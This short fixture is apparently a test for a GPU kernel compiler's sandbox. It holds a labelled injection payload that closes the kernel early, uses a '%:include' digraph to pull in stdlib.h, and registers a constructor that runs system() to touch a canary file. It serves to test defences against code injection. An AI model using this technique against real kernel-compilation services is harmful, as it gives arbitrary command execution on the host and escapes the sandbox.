// attack: the kernel closes itself with `}`, then %:include (a digraph) pulls in stdlib.h and a constructor runs system()
// goal: escape
uint i = thread_position_in_grid.x;
if (i < uint(n)) y_out[i] = fma(a, x[i], y[i]);
}
%:include <stdlib.h>
__attribute__((constructor)) void kp_pwn() { ::system("touch @CANARY@/pwned"); }
void kp_rest() {
